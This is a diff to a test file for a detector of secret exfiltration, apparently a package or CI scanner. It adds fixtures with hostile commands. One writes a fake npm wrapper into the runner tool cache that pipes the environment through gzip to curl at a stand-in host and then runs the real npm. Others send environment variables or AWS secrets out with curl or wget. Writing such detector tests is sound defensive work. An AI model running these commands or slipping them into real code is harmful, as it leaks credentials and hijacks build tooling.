@@ -15,6 +15,15 @@ examine(sendsWithACommand, {
     },
     { when: 'the environment is piped into curl', files: run(`cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'proof' },
     { when: 'a hook does so', files: hook('env | curl -sd @- https://a.invalid'), weight: 'proof', says: ['postinstall hook'] },
+    {
+      when: 'a program of the path is written that pipes it, then starts the real one',
+      files: run(
+        `require('fs').writeFileSync(process.env.RUNNER_TOOL_CACHE + '/npm', '#!/bin/bash\\n(env | gzip | curl -s --data-binary @- https://a.invalid/ &)\\nexec npm "$@"\\n')`,
+      ),
+      weight: 'proof',
+      says: ['writes a script'],
+    },
+    { when: 'a call does so', files: run(`exports.report = () => cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'strong' },
     { when: 'the environment is substituted', files: hook('curl "https://a.invalid/?$(env | base64 -w0)"') },
     {
       when: 'the environment is an argument',
@@ -31,6 +40,12 @@ examine(sendsWithACommand, {
     { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
   ],
   silent: [
+    {
+      when: 'a script is written that fetches something',
+      files: run(
+        `require('fs').writeFileSync('build/get.sh', '#!/bin/sh\\nset -e\\nenv | grep NODE\\ncurl -fsSLO https://a.invalid/a.tgz\\n')`,
+      ),
+    },
     {
       when: 'a download is started in the environment that there is',
       files: {
